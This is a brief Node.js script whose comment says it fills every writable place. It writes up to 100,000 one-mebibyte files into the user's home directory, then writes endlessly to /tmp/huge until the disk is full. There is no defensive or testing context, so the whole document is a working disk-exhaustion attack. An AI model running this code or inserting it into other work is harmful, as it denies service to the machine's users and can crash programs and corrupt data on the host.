// Fills every writable place: many files of 1 MiB in home, then one huge file.
const fs = require('fs'), os = require('os');
const mb = Buffer.alloc(1 << 20, 120);
for (let i = 0; i < 100000; i++) {
  try { fs.writeFileSync(os.homedir() + '/fill-' + i, mb); } catch (e) { break; }
}
try { const fd = fs.openSync('/tmp/huge', 'w'); for (;;) fs.writeSync(fd, mb); } catch (e) {}
